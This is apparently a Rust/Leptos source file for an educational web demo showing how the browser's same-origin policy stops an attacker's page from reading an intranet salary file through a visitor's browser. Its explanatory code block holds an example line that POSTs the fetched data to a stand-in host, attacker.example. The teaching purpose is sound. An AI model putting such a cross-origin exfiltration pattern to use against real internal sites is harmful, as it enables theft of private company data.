//! Demo 1: this page plays an attacker's site and tries to read the
//! intranet's salary sheet through the learner's browser. The request
//! arrives (the intranet's log says so); the answer reaches the browser; the
//! script is refused it, so there is nothing to send home.

use cors_core::wire::{DemoConfig, LogEntry, Role};
use leptos::prelude::*;
use leptos::task::spawn_local;

use super::card::{arrivals, new_case, with_case, DemoCard, DemoLog, Mark, OpenLog, Status};
use crate::demo::{self, FetchOutcome};

/// The section id (`/why#intranet`).
pub const ID: &str = "intranet";
pub const TITLE: &str = "A web page reads your company's intranet";

const SALARIES: &str = "/salaries.json";

/// One run: what the script got, and the intranet's log entry for it.
#[derive(Clone, Debug)]
struct Run {
    outcome: FetchOutcome,
    arrived: Option<LogEntry>,
}

impl Run {
    fn step_2(&self) -> (Mark, String) {
        match &self.arrived {
            Some(entry) => (
                Mark::Happened,
                format!(
                    "The intranet server logged {} {} from Origin {} and answered {} (see the log).",
                    entry.method,
                    entry.path,
                    entry.header("origin").unwrap_or("(none)"),
                    entry.status
                ),
            ),
            None => (
                Mark::Stopped,
                "No request reached the intranet server.".to_owned(),
            ),
        }
    }

    fn step_3(&self) -> (Mark, String) {
        match (&self.outcome, self.arrived.is_some()) {
            (FetchOutcome::Rejected { error }, true) => (
                Mark::Withheld,
                format!(
                    "The salaries reached your browser, which kept them from the script: \
                     it got {error} instead."
                ),
            ),
            (FetchOutcome::Rejected { error }, false) => {
                (Mark::Stopped, format!("No answer came back ({error})."))
            }
            (FetchOutcome::Read { status, .. }, _) => (
                Mark::Happened,
                format!("The script read the answer (status {status}). The intranet allowed it."),
            ),
        }
    }

    fn step_4(&self) -> (Mark, String) {
        match &self.outcome {
            FetchOutcome::Rejected { .. } => (
                Mark::Stopped,
                "Nothing to send: the script never held the data.".to_owned(),
            ),
            FetchOutcome::Read { .. } => (
                Mark::Happened,
                "The script holds the data and could post it anywhere.".to_owned(),
            ),
        }
    }
}

/// The card: story, diagram, the run, the log.
#[component]
pub fn IntranetDemo(config: DemoConfig) -> impl IntoView {
    let intranet = demo::origin_url(&config, Role::Intranet);
    let page_origin = demo::origin_url(&config, Role::App);
    let run = RwSignal::new(None::<Run>);
    let running = RwSignal::new(false);
    let case = RwSignal::new(None::<String>);
    let open_log = OpenLog::get();

    let start = move |_| {
        let this_case = new_case("intranet");
        let url = demo::tagged_url(&config, Role::Intranet, &with_case(SALARIES, &this_case));
        case.set(Some(this_case.clone()));
        open_log.show(ID);
        running.set(true);
        run.set(None);
        spawn_local(async move {
            let outcome = demo::plain_fetch(&url).await;
            let arrived = arrivals(&this_case)
                .await
                .into_iter()
                .find(|e| e.role == Role::Intranet);
            run.set(Some(Run { outcome, arrived }));
            running.set(false);
        });
    };

    let step = move |n: u8| {
        move || {
            let (mark, detail) = match run.get() {
                None if running.get() => (Mark::Pending, "Running…".to_owned()),
                None => (Mark::Pending, "Press the button above.".to_owned()),
                Some(r) => match n {
                    2 => r.step_2(),
                    3 => r.step_3(),
                    _ => r.step_4(),
                },
            };
            view! { <Status mark detail /> }
        }
    };
    let diagram_state = Signal::derive(move || match run.get() {
        None => "idle",
        Some(Run {
            outcome: FetchOutcome::Read { .. },
            ..
        }) => "read",
        Some(Run { arrived: None, .. }) => "unreached",
        Some(_) => "withheld",
    });

    view! {
        <DemoCard id=ID number=1 title=TITLE>
            <p>
                "Picture an internal site only employees can reach: salaries, customer records, "
                "admin panels. An attacker on the internet cannot open it — their computer is outside "
                "the company network. Yours is inside. So the attacker builds a web page, gets you to "
                "open it, and lets its script ask "<em>"your"</em>" browser to fetch the internal "
                "site and send the result home."
            </p>
            <p>
                "For this demo, this page ("<code>{page_origin.clone()}</code>") plays the attacker's "
                "page, and "<code>{intranet.clone()}</code>" plays the intranet. Its salary sheet "
                "is sent without any CORS header: it allows no other origin to read it."
            </p>
            <pre class="code"><code>
                {format!("const answer = await fetch(\"{intranet}{SALARIES}\");\n")}
                "await fetch(\"https://attacker.example/collect\", { method: \"POST\", body: await answer.text() });"
            </code></pre>
            <div class="why-demo">
                <div class="why-main">
                    <button type="button" class="primary" on:click=start disabled=move || running.get() data-testid="why-intranet-run">
                        {move || if running.get() { "Running…" } else { "Run the attack" }}
                    </button>
                    <figure class="why-figure">
                        <Diagram state=diagram_state />
                        <figcaption class="caption">"The four steps of the attack. After a run, a bar marks where your browser kept the answer from the page, and a cross marks the step that could not happen; the list below says the same in words."</figcaption>
                    </figure>
                    <ol class="why-steps" aria-live="polite">
                        <li data-testid="why-intranet-step-1">
                            <span class="why-step-title">"You open the attacker's page."</span>
                            <Status mark=Mark::Happened detail="You are on it: this page plays that part." />
                        </li>
                        <li data-testid="why-intranet-step-2">
                            <span class="why-step-title">"Its script asks the intranet server for "<code>{SALARIES}</code>"."</span>
                            {step(2)}
                        </li>
                        <li data-testid="why-intranet-step-3">
                            <span class="why-step-title">"The answer comes back to your browser."</span>
                            {step(3)}
                        </li>
                        <li data-testid="why-intranet-step-4">
                            <span class="why-step-title">"The script sends it to the attacker."</span>
                            {step(4)}
                        </li>
                    </ol>
                    <Show when=move || run.with(Option::is_some)>
                        <p class="why-js-label">"What the script got:"</p>
                        <pre class="js-result" data-testid="why-intranet-result">
                            {move || match run.get().map(|r| r.outcome) {
                                Some(FetchOutcome::Rejected { error }) => error,
                                Some(FetchOutcome::Read { body, .. }) => body,
                                None => String::new(),
                            }}
                        </pre>
                    </Show>
                </div>
                <DemoLog demo=ID case />
            </div>
            <p class="why-takeaway">
                "The policy did not stop the request: it stopped the "<em>"reading"</em>". That is "
                "enough here, because the attacker wanted the data. And curl is no way around it: "
                "curl on the attacker's own computer has no policy, but it cannot reach the intranet "
                "either. Only a browser inside can, and there the policy applies. Chrome (142 and "
                "later) adds a guard of its own, Local Network Access: a public website must get "
                "your permission before it reaches private or loopback addresses. Firefox and Safari "
                "do not ask, and in this demo the page and the \"intranet\" share one host, so only "
                "the same-origin policy is at work."
            </p>
        </DemoCard>
    }
}

/// The attack as a picture: you, your browser holding the attacker's page,
/// the intranet server, the attacker's server; arrows numbered 1–4. After a
/// run, a bar stands between the answer and the page and the last arrow is
/// crossed out (shapes, not only colour).
#[component]
fn Diagram(
    /// `idle`, `withheld`, `unreached` or `read`.
    state: Signal<&'static str>,
) -> impl IntoView {
    view! {
        <svg class="why-diagram" data-state=move || state.get() viewBox="0 0 640 280" role="img"
            aria-label="You open the attacker's page (1). Its script, running in your browser, asks the intranet server (2). The answer comes back to your browser (3). The script would send it to the attacker's server (4).">
            <defs>
                <marker id="why-arrowhead" viewBox="0 0 10 10" refX="9" refY="5" markerWidth="6" markerHeight="6" orient="auto-start-reverse">
                    <path d="M0,0 L10,5 L0,10 z" class="why-arrowhead" />
                </marker>
            </defs>
            // You
            <g class="why-node">
                <circle cx="42" cy="128" r="14" />
                <path d="M18,180 q24,-40 48,0 z" />
                <text x="42" y="204" text-anchor="middle">"You"</text>
            </g>
            // Your browser, with the attacker's page and its script inside
            <g class="why-node">
                <rect x="96" y="16" width="300" height="252" rx="12" class="why-browser" />
                <text x="112" y="40">"Your browser"</text>
                <rect x="112" y="52" width="180" height="200" rx="8" class="why-page" />
                <text x="124" y="76">"Attacker's page"</text>
                <rect x="128" y="124" width="148" height="56" rx="6" class="why-script" />
                <text x="202" y="157" text-anchor="middle">"its script"</text>
            </g>
            // The intranet server and the attacker's server
            <g class="why-node">
                <rect x="476" y="20" width="150" height="80" rx="8" class="why-server" />
                <text x="551" y="54" text-anchor="middle">"Intranet server"</text>
                <text x="551" y="76" text-anchor="middle" class="why-small">"salaries.json"</text>
                <rect x="476" y="184" width="150" height="80" rx="8" class="why-server" />
                <text x="551" y="218" text-anchor="middle">"Attacker's"</text>
                <text x="551" y="240" text-anchor="middle">"server"</text>
            </g>
            // 1: you open the page
            <g class="why-arrow step-1">
                <line x1="66" y1="150" x2="110" y2="150" class="why-line" marker-end="url(#why-arrowhead)" />
                <StepNumber n="1" x=88 y=130 />
            </g>
            // 2: the script asks the intranet
            <g class="why-arrow step-2">
                <line x1="276" y1="130" x2="474" y2="52" class="why-line" marker-end="url(#why-arrowhead)" />
                <StepNumber n="2" x=400 y=81 />
            </g>
            // 3: the answer reaches the browser, and a bar keeps it from the page
            <g class="why-arrow step-3">
                <line x1="474" y1="92" x2="322" y2="150" class="why-line" marker-end="url(#why-arrowhead)" />
                <StepNumber n="3" x=420 y=113 />
                <g class="why-barrier">
                    <line x1="308" y1="128" x2="308" y2="172" />
                </g>
            </g>
            // 4: the script would send it to the attacker
            <g class="why-arrow step-4">
                <line x1="276" y1="172" x2="474" y2="222" class="why-line" marker-end="url(#why-arrowhead)" />
                <StepNumber n="4" x=340 y=188 />
                <g class="why-cross">
                    <line x1="398" y1="194" x2="422" y2="218" />
                    <line x1="422" y1="194" x2="398" y2="218" />
                </g>
            </g>
        </svg>
    }
}

/// A numbered circle on an arrow.
#[component]
fn StepNumber(n: &'static str, x: i32, y: i32) -> impl IntoView {
    view! {
        <g class="why-step-number">
            <circle cx=x cy=y r="11" />
            <text x=x y={y + 5} text-anchor="middle">{n}</text>
        </g>
    }
}
